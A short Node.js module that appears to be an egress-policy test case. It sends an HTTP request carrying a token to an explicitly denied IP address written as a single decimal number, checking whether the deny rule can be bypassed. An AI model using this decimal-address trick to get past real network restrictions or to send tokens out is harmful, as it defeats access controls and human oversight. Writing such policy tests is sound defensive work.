// A decimal address
// Writes the address as one number in a URL.
// policy: denied-address
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
const http = require('http');

module.exports = async (at) => {
  return new Promise((resolve, reject) => {
    http.get({ host: '3405803857', port: 8080, path: `/${at.token}` }, (answer) => answer.on('data', (data) => resolve(String(data) === 'reached')))
      .on('error', reject);
  });
};
